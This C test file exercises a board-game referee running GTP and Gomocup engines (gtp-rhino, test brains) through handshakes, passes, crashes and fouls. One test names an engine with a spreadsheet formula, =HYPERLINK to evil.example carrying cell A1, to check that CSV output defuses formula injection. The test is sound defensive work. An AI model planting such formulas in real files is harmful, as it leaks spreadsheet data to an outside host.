/* test_engines.c: engines in their own protocols, played through referee as
 * real child processes: gtp-rhino (Debian's grhino, GTP) at reversi, and a
 * Gomocup brain of the tests' own (tests/bots/gomobrain.c) and the bundled
 * example brain (bots/pbrain.c) at gomoku. */
#include "helpers.h"
#include "run.h"
#include "cell.h"
#include "csvread.h"

#include <criterion/criterion.h>
#include <criterion/parameterized.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define RHINO     "/usr/games/gtp-rhino"
#define GOMOBRAIN BUILD_DIR "/testbots/gomobrain"

static struct run_result r;

/* gtp-rhino comes from Debian's grhino, which scripts/deps --test installs. */
static void need_rhino(void)
{
    if (access(RHINO, X_OK) != 0)
        cr_skip_test("no " RHINO ": install Debian's grhino (scripts/deps --test does)");
}

/* Run referee with argv into dir: it exits 0, no game has a foul, and
 * `check --strict` passes on what it wrote; what (a case's name) in the
 * messages. */
static void expect_clean_run(char **argv, const char *dir, const char *what)
{
    cr_assert_eq(run_program(argv, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s: %s", what, r.err);
    cr_expect_eq(test_fouls_in(dir), 0, "%s", what);
    char *check[] = {REFEREE_BIN, "check", "--strict", (char *)dir, NULL};
    cr_assert_eq(run_program(check, NULL, &r), 0);
    cr_expect_eq(r.status, 0, "%s: %s%s", what, r.out, r.err);
}

/* The README's command: gtp-rhino at three levels with bots/reversi and
 * bots/greedy, no foul; every game ends by the rules (check folds each). Level
 * 3's exact endgame takes what it takes: 1202 ms once at 200 ms a move on a
 * loaded machine, so the margin is wide (the deadlines are test_time's). */
Test(engines, gtp_rhino_plays_a_tournament_without_a_foul, .timeout = 240)
{
    need_rhino();
    char dir[64];
    test_tmpdir(dir, "engines");
    char *run[] = {REFEREE_BIN,  "tournament",
                   "--game",     "reversi",
                   "--bot",      "rhino1=" RHINO " -l 1",
                   "--proto",    "rhino1=gtp",
                   "--bot",      "rhino2=" RHINO " -l 2",
                   "--proto",    "rhino2=gtp",
                   "--bot",      "rhino3=" RHINO " -l 3",
                   "--proto",    "rhino3=gtp",
                   "--bot",      "reversi=" BOTDIR "reversi",
                   "--bot",      "greedy=" BOTDIR "greedy",
                   "--games",    "2",
                   "--movetime", "200",
                   "--margin",   "3000",
                   "--results",  dir,
                   "-q",         NULL};
    expect_clean_run(run, dir, "");

    char log[65536];
    test_slurp(dir, "logs/rhino1.log", log, sizeof(log));
    cr_expect(strstr(log, "gtp engine: GTP GRhino"), "the engine's name is in its log: %s", log);
    struct table t;
    test_load(&t, dir, "standings.csv");
    for (size_t i = 0; i < t.nrows; i++) {
        bool engine = strncmp(test_cell(&t, i, "bot"), "rhino", 5) == 0;
        cr_expect_eq(strncmp(test_cell(&t, i, "engine"), "GTP GRhino 0.", 13) == 0, engine,
                     "%s: '%s'", test_cell(&t, i, "bot"), test_cell(&t, i, "engine"));
    }
    table_release(&t);

    /* A record replays move by move, as any game's. */
    char *replay[] = {REFEREE_BIN, "replay", "--results", dir, "--id", "1", NULL};
    cr_assert_eq(run_program(replay, NULL, &r), 0);
    cr_expect_eq(r.status, 0, "%s", r.err);
    cr_expect(strstr(r.out, "result "), "%s", r.out);
}

/* An engine that answers as Edax 4.6 does (`= 1 2`: a space after the sign,
 * `= 4 ` for an empty answer) plays whole games without a foul, and is told
 * its time rounded down: 1500 ms a move is 1 second. */
Test(engines, gtp_engine_answering_as_edax_does_plays_a_match, .timeout = 60)
{
    char dir[64], log[1 << 16];
    test_tmpdir(dir, "engines");
    char *run[] = {REFEREE_BIN,  "match",
                   "--game",     "reversi",
                   "--bot",      "edaxlike=" BUILD_DIR "/testbots/othello gtp",
                   "--proto",    "edaxlike=gtp",
                   "--bot",      "reversi=" BOTDIR "reversi",
                   "--games",    "2",
                   "--openings", "2",
                   "--movetime", "1500",
                   "--results",  dir,
                   "-q",         NULL};
    expect_clean_run(run, dir, "");
    test_slurp(dir, "logs/edaxlike.log", log, sizeof(log));
    cr_expect(strstr(log, "gtp engine: Othello fixture 1.0"), "%s", log);
    cr_expect(strstr(log, " time_settings 0 1 1\n"), "%s", log);
    cr_expect(strstr(log, " time_left b 1 1\n") || strstr(log, " time_left w 1 1\n"), "%s", log);
}

/* The first raw cell of dir's file (as a spreadsheet would see it, before any
 * reader takes a quote off) that a spreadsheet would take for a formula, into
 * cell; false if none. */
static bool formula_cell(const char *dir, const char *file, char *cell, size_t len)
{
    char path[256], why[256];
    struct csvread in;
    bool found = false;

    snprintf(path, sizeof(path), "%s/%s", dir, file);
    cr_assert_eq(csvread_open(&in, path, why, sizeof(why)), 0, "%s: %s", path, why);
    while (!found && csvread_next(&in, why, sizeof(why)) > 0)
        for (size_t c = 0; !found && c < in.ncols; c++) {
            char *end;
            strtod(in.row[c], &end); /* a number is one, such as an Elo of -35.2 */
            if (cell_is_formula(in.row[c]) && (end == in.row[c] || *end)) {
                snprintf(cell, len, "%s, column '%s': %s", file, in.header[c], in.row[c]);
                found = true;
            }
        }
    csvread_close(&in);
    return found;
}

/* The raw cell of column in dir's file, in the row whose "bot" is bot, into
 * cell ("" if none). */
static const char *raw_cell(const char *dir, const char *file, const char *bot, const char *column,
                            char *cell, size_t len)
{
    char path[256], why[256];
    struct csvread in;

    cell[0] = '\0';
    snprintf(path, sizeof(path), "%s/%s", dir, file);
    cr_assert_eq(csvread_open(&in, path, why, sizeof(why)), 0, "%s: %s", path, why);
    int b = csvread_column(&in, "bot"), c = csvread_column(&in, column);
    while (b >= 0 && c >= 0 && csvread_next(&in, why, sizeof(why)) > 0)
        if (strcmp(in.row[b], bot) == 0)
            snprintf(cell, len, "%s", in.row[c]);
    csvread_close(&in);
    return cell;
}

/* An engine's name is its own text: one a spreadsheet would take for a
 * formula is written so that a spreadsheet shows it as text (a ' in front)
 * in every CSV file of the run, and referee reads it back as the engine said
 * it (check passes, the report shows the name). */
Test(engines, gtp_engine_named_as_a_formula_is_written_as_text, .timeout = 120)
{
    static const char *const names[] = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                                        "@SUM(1)"};
    static const char *const files[] = {"games.csv", "moves.csv", "standings.csv", "crosstable.csv",
                                        "run.csv"};
    for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
        char dir[64], bot[512], engine[256], raw[300], cell[512];
        test_tmpdir(dir, "engines");
        /* In single quotes for referee's split of the command: the name is one word. */
        snprintf(bot, sizeof(bot), "evil=" BUILD_DIR "/testbots/othello gtp '%s'", names[k]);
        char *run[] = {REFEREE_BIN, "match",   "--game",     "reversi", "--bot",
                       bot,         "--proto", "evil=gtp",   "--bot",   "reversi=" BOTDIR "reversi",
                       "--games",   "2",       "--openings", "2",       "--results",
                       dir,         "-q",      NULL};
        expect_clean_run(run, dir, names[k]);
        for (size_t f = 0; f < sizeof(files) / sizeof(files[0]); f++)
            cr_expect_not(formula_cell(dir, files[f], cell, sizeof(cell)), "%s", cell);

        snprintf(engine, sizeof(engine), "%s 1.0", names[k]);
        snprintf(raw, sizeof(raw), "'%s", engine);
        cr_expect_str_eq(raw_cell(dir, "standings.csv", "evil", "engine", cell, sizeof(cell)), raw,
                         "standings.csv keeps the name as text");
        struct table t; /* read back as the engine said it */
        test_load(&t, dir, "standings.csv");
        for (size_t i = 0; i < t.nrows; i++)
            if (strcmp(test_cell(&t, i, "bot"), "evil") == 0)
                cr_expect_str_eq(test_cell(&t, i, "engine"), engine);
        table_release(&t);

        if (k == 1) { /* the report made again from the files shows the name itself */
            char page[128], html[1 << 20];
            snprintf(page, sizeof(page), "%s/again.html", dir);
            char *report[] = {REFEREE_BIN, "report", dir, "--out", page, NULL};
            cr_assert_eq(run_program(report, NULL, &r), 0);
            cr_assert_eq(r.status, 0, "%s", r.err);
            test_slurp(dir, "again.html", html, sizeof(html));
            cr_expect(strstr(html, "<td class=\"name\">@SUM(1) 1.0</td>"),
                      "the report shows the engine's name as it said it");
        }
    }
}

/* An engine whose `name` is 5,000 bytes (longer than a line referee reads)
 * is no failed handshake: it plays, and its name is cut to what the record
 * keeps, 256 bytes, in standings.csv's engine column and in its log. */
Test(engines, gtp_engine_with_a_5000_byte_name_plays_and_its_name_is_cut, .timeout = 60)
{
    char dir[64], log[1 << 16];
    test_tmpdir(dir, "engines");
    char *run[] = {REFEREE_BIN,  "match",
                   "--game",     "reversi",
                   "--bot",      "long=" BUILD_DIR "/testbots/othello gtp longname",
                   "--proto",    "long=gtp",
                   "--bot",      "reversi=" BOTDIR "reversi",
                   "--games",    "2",
                   "--openings", "2",
                   "--results",  dir,
                   "-q",         NULL};
    expect_clean_run(run, dir, "");
    struct table t;
    test_load(&t, dir, "standings.csv");
    for (size_t i = 0; i < t.nrows; i++) {
        if (strcmp(test_cell(&t, i, "bot"), "long") != 0)
            continue;
        const char *engine = test_cell(&t, i, "engine");
        cr_expect_eq(strlen(engine), 256, "%zu", strlen(engine));
        cr_expect(strncmp(engine, "Othello fixture NNNN", 20) == 0, "%s", engine);
        cr_expect_eq(strspn(engine + 16, "N"), 240, "%s", engine);
    }
    table_release(&t);
    test_slurp(dir, "logs/long.log", log, sizeof(log));
    cr_expect(strstr(log, "gtp engine: Othello fixture NNNN"), "%s", log);

    /* A name of 100,000 bytes is past what a handshake line may be: its
     * start fails, saying so, and its games are forfeits. */
    test_tmpdir(dir, "engines");
    run[5] = "long=" BUILD_DIR "/testbots/othello gtp hugename";
    cr_assert_eq(run_program(run, NULL, &r), 0);
    cr_expect_eq(r.status, 6, "%s", r.err);
    test_load(&t, dir, "games.csv");
    cr_expect_eq(t.nrows, 2);
    for (size_t i = 0; i < t.nrows; i++)
        cr_expect_str_eq(test_cell(&t, i, "reason"),
                         "could not start (a line of more than 65536 bytes in its gtp handshake)");
    table_release(&t);
}

/* A position where the side to move must pass, found by random play of
 * referee's own rules, as an openings file. Returns its plies. */
static int forced_pass_opening(const char *path)
{
    const struct game_def *def = test_game("reversi");
    uint64_t seed = 12345;

    for (int tries = 0; tries < 100000; tries++) {
        struct game_state s;
        game_init(&s, def, false);
        while (!game_is_over(&s)) {
            struct action legal[GAME_MAX_SQUARES + 1];
            int n = game_legal(&s, legal);
            if (n == 1 && legal[0].kind == ACTION_PASS && s.nhistory > 4) {
                char moves[GAME_MAX_PLIES * GAME_MOVE_TEXT];
                FILE *f = fopen(path, "w");
                fprintf(f, "%s\n", notation_format_history(&s, moves, sizeof(moves)));
                fclose(f);
                return s.nhistory;
            }
            seed = seed * 6364136223846793005ull + 1442695040888963407ull;
            game_step(&s, legal[(seed >> 33) % (uint64_t)n]);
        }
    }
    return -1;
}

/* gtp-rhino passes by itself (`= pass`), is never sent a pass, and still
 * gets the opponent's moves after its own pass: the game goes on in step. */
Test(engines, gtp_rhino_passes_implicitly_and_stays_in_step, .timeout = 120)
{
    need_rhino();
    char dir[64], path[128];
    test_tmpdir(dir, "engines");
    snprintf(path, sizeof(path), "%s-opening.txt", dir);
    int plies = forced_pass_opening(path);
    cr_assert_gt(plies, 0, "no forced pass found");
    char *run[] = {REFEREE_BIN,
                   "match",
                   "--game",
                   "reversi",
                   "--bot",
                   "a=" RHINO " -l 1",
                   "--proto",
                   "a=gtp",
                   "--bot",
                   "b=" RHINO " -l 2",
                   "--proto",
                   "b=gtp",
                   "--openings-file",
                   path,
                   "--games",
                   "2",
                   "--results",
                   dir,
                   "-q",
                   NULL};
    expect_clean_run(run, dir, "");
    struct table t;
    test_load(&t, dir, "games.csv");
    for (size_t i = 0; i < t.nrows; i++) {
        const char *moves = test_cell(&t, i, "moves");
        /* The first move after the opening is the engine's pass. */
        const char *p = moves;
        for (int k = 0; k < plies && p; k++)
            p = strchr(p + 1, ' ');
        cr_expect(p && (strncmp(p + 1, "x:pass", 6) == 0 || strncmp(p + 1, "o:pass", 6) == 0),
                  "game %zu: %s", i + 1, moves);
        cr_expect_str_eq(test_cell(&t, i, "end"), "count", "played to its end");
    }
    table_release(&t);
    unlink(path);
}

/* A referee-protocol bot told it speaks GTP answers nothing GTP can read: its
 * handshake fails, and the run says so, naming it (exit 4). */
Test(engines, gtp_handshake_unanswered_is_a_failed_start, .timeout = 60)
{
    need_rhino();
    char dir[64];
    test_tmpdir(dir, "engines");
    char *run[] = {REFEREE_BIN, "match",
                   "--game",    "reversi",
                   "--bot",     "me=" BOTDIR "reversi",
                   "--proto",   "me=gtp",
                   "--bot",     "rhino=" RHINO,
                   "--proto",   "rhino=gtp",
                   "--startup", "500",
                   "--results", dir,
                   "-q",        NULL};
    cr_assert_eq(run_program(run, NULL, &r), 0);
    cr_expect_eq(r.status, 6, "%s", r.err);
    cr_expect(strstr(r.err, "no gtp handshake within 500 ms"), "%s", r.err);
    struct table t;
    test_load(&t, dir, "games.csv");
    cr_expect_eq(t.nrows, 2, "its games are forfeits");
    for (size_t i = 0; i < t.nrows; i++)
        cr_expect_str_eq(test_cell(&t, i, "reason"),
                         "could not start (no gtp handshake within 500 ms (--startup))");
    table_release(&t);
}

/* An engine that dies mid-game (killed after a second of a slow level) loses
 * that game, as any bot; and a `?` answer is a foul with the engine's words: with
 * --gtp-pass explicit, gtp-rhino answers `play b pass` with `? syntax error`. */
Test(engines, gtp_engine_death_and_question_answers_are_fouls, .timeout = 120)
{
    need_rhino();
    char dir[64], path[128];
    test_tmpdir(dir, "engines");
    char *dies[] = {REFEREE_BIN, "match",
                    "--game",    "reversi",
                    "--bot",     "dies=timeout -s KILL 1 " RHINO " -l 4",
                    "--proto",   "dies=gtp",
                    "--bot",     "me=" BOTDIR "reversi",
                    "--games",   "1",
                    "--results", dir,
                    "-q",        NULL};
    cr_assert_eq(run_program(dies, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s", r.err);
    struct table t;
    test_load(&t, dir, "games.csv");
    cr_expect_str_eq(test_cell(&t, 0, "foul_by"), "dies", "%s", test_cell(&t, 0, "reason"));
    cr_expect(strstr(test_cell(&t, 0, "reason"), "crashed (signal 9)") ||
                  strstr(test_cell(&t, 0, "reason"), "exited"),
              "%s", test_cell(&t, 0, "reason"));
    table_release(&t);

    test_tmpdir(dir, "engines");
    snprintf(path, sizeof(path), "%s-opening.txt", dir);
    cr_assert_gt(forced_pass_opening(path), 0);
    char *explicit[] = {REFEREE_BIN,
                        "match",
                        "--game",
                        "reversi",
                        "--bot",
                        "a=" RHINO " -l 1",
                        "--proto",
                        "a=gtp",
                        "--gtp-pass",
                        "a=explicit",
                        "--bot",
                        "b=" RHINO " -l 1",
                        "--proto",
                        "b=gtp",
                        "--gtp-pass",
                        "b=explicit",
                        "--openings-file",
                        path,
                        "--games",
                        "1",
                        "--results",
                        dir,
                        "-q",
                        NULL};
    cr_assert_eq(run_program(explicit, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s", r.err);
    test_load(&t, dir, "games.csv");
    cr_expect_str_eq(test_cell(&t, 0, "foul"), "malformed", "%s", test_cell(&t, 0, "reason"));
    cr_expect(strstr(test_cell(&t, 0, "reason"), "pass` with \"?"),
              "the command and the engine's words: %s", test_cell(&t, 0, "reason"));
    cr_expect(strstr(test_cell(&t, 0, "reason"), "syntax error"), "%s", test_cell(&t, 0, "reason"));
    table_release(&t);
    unlink(path);
}

/* Gomocup: a whole game of the tests' brain against the bundled example,
 * what the brain is told (START, INFO, BEGIN or BOARD in playing order, TURN),
 * and its MESSAGE and DEBUG lines in its log, not fouls. */
Test(engines, gomocup_brains_play_whole_games, .timeout = 60)
{
    char dir[64], log[65536];
    test_tmpdir(dir, "engines");
    char *run[] = {REFEREE_BIN,  "match",
                   "--game",     "gomoku",
                   "--bot",      "t=" GOMOBRAIN " chat",
                   "--proto",    "t=gomocup",
                   "--bot",      "p=" BOTDIR "pbrain",
                   "--proto",    "p=gomocup",
                   "--openings", "2",
                   "--games",    "2",
                   "--results",  dir,
                   "-q",         NULL};
    expect_clean_run(run, dir, "");
    test_slurp(dir, "logs/t.log", log, sizeof(log));
    cr_expect(strstr(log, "START 15\r\n"), "%s", log);
    cr_expect(strstr(log, "INFO rule 0\r\n"), "%s", log);
    cr_expect(strstr(log, "BOARD\r\n"), "an opening is shown as a board: %s", log);
    cr_expect(strstr(log, "TURN "), "%s", log);
    cr_expect(strstr(log, "said \"MESSAGE thinking hard\""), "%s", log);
    cr_expect(strstr(log, "gomocup engine: gomobrain 0.1"), "%s", log);

    /* BOARD lists the stones in the order they were played, 1 its own. */
    struct table t;
    test_load(&t, dir, "games.csv");
    const char *moves = test_cell(&t, 0, "moves");
    cr_assert(strncmp(moves, "x:", 2) == 0, "%s", moves);
    char first[32];
    int col = moves[2] - 'a', row = atoi(moves + 3) - 1;
    snprintf(first, sizeof(first), "%d,%d,", col, row);
    cr_expect(strstr(strstr(log, "BOARD\r\n"), first) == strstr(log, "BOARD\r\n") + 7,
              "the first stone first: %s in %s", first, log);
    table_release(&t);
}

struct misbehaviour {
    char mode[16];
    char foul[16];
    char reason[48];
};

ParameterizedTestParameters(engines, gomocup_misbehaviour_is_a_foul)
{
    static struct misbehaviour cases[] = {
        {"error", "malformed", "answered \"ERROR cannot think\""},
        {"unknown", "malformed", "answered \"UNKNOWN\""},
        {"offboard", "no-such-square", "p4"},
        {"flood", "too-long", "flooded its output"},
        {"crash", "exited", "exited (status 3)"},
    };
    return cr_make_param_array(struct misbehaviour, cases, sizeof(cases) / sizeof(cases[0]));
}

ParameterizedTest(struct misbehaviour *m, engines, gomocup_misbehaviour_is_a_foul, .timeout = 60)
{
    char dir[64], bot[256];
    test_tmpdir(dir, "engines");
    snprintf(bot, sizeof(bot), "t=%s %s 2", GOMOBRAIN, m->mode);
    char *run[] = {REFEREE_BIN, "match",     "--game",    "gomoku", "--bot",
                   bot,         "--proto",   "t=gomocup", "--bot",  "p=" BOTDIR "pbrain",
                   "--proto",   "p=gomocup", "--games",   "1",      "--results",
                   dir,         "-q",        NULL};
    cr_assert_eq(run_program(run, NULL, &r), 0);
    cr_assert_eq(r.status, 0, "%s", r.err);
    struct table t;
    test_load(&t, dir, "games.csv");
    cr_expect_str_eq(test_cell(&t, 0, "foul"), m->foul, "%s: %s", m->mode,
                     test_cell(&t, 0, "reason"));
    cr_expect_str_eq(test_cell(&t, 0, "foul_by"), "t");
    cr_expect(strstr(test_cell(&t, 0, "reason"), m->reason), "%s: %s", m->mode,
              test_cell(&t, 0, "reason"));
    table_release(&t);
}

/* A brain that refuses START, or answers it after --startup, cannot start:
 * the run says so (exit 6), naming the handshake, and its game is a forfeit. */
Test(engines, gomocup_start_refused_or_slow_is_a_failed_start, .timeout = 60)
{
    static const char *const modes[][2] = {{"nostart", "ERROR no such size"},
                                           {"slowstart 3000", "no gomocup handshake within"}};
    for (int i = 0; i < 2; i++) {
        char dir[64], bot[256];
        test_tmpdir(dir, "engines");
        snprintf(bot, sizeof(bot), "t=%s %s", GOMOBRAIN, modes[i][0]);
        char *run[] = {REFEREE_BIN, "match",     "--game",  "gomoku",
                       "--bot",     bot,         "--proto", "t=gomocup",
                       "--startup", "500",       "--bot",   "p=" BOTDIR "pbrain",
                       "--proto",   "p=gomocup", "--games", "1",
                       "--results", dir,         "-q",      NULL};
        cr_assert_eq(run_program(run, NULL, &r), 0);
        cr_expect_eq(r.status, 6, "%s: %s", modes[i][0], r.err);
        cr_expect(strstr(r.err, modes[i][1]), "%s: %s", modes[i][0], r.err);
        struct table t;
        test_load(&t, dir, "games.csv");
        cr_expect_eq(t.nrows, 1);
        cr_expect(t.nrows == 1 && strstr(test_cell(&t, 0, "reason"), modes[i][1]), "%s",
                  modes[i][0]);
        table_release(&t);
    }
}

/* The other Gomocup forms: START 20 for gomoku-freestyle, INFO rule 1 for
 * gomoku-standard (exactly five), INFO rule 4 for gomoku-renju; whole games,
 * no foul. */
Test(engines, gomocup_brains_play_both_board_sizes, .timeout = 60)
{
    static const char *const forms[][3] = {{"gomoku-freestyle", "START 20\r\n", "INFO rule 0\r\n"},
                                           {"gomoku-standard", "START 15\r\n", "INFO rule 1\r\n"},
                                           {"gomoku-renju", "START 15\r\n", "INFO rule 4\r\n"}};
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        char dir[64], log[65536];
        test_tmpdir(dir, "engines");
        char *run[] = {REFEREE_BIN, "match",
                       "--game",    (char *)forms[i][0],
                       "--bot",     "t=" GOMOBRAIN,
                       "--proto",   "t=gomocup",
                       "--bot",     "p=" BOTDIR "pbrain",
                       "--proto",   "p=gomocup",
                       "--games",   "2",
                       "--results", dir,
                       "-q",        NULL};
        expect_clean_run(run, dir, forms[i][0]);
        test_slurp(dir, "logs/t.log", log, sizeof(log));
        cr_expect(strstr(log, forms[i][1]), "%s: %s", forms[i][0], log);
        cr_expect(strstr(log, forms[i][2]), "%s: %s", forms[i][0], log);
    }
}
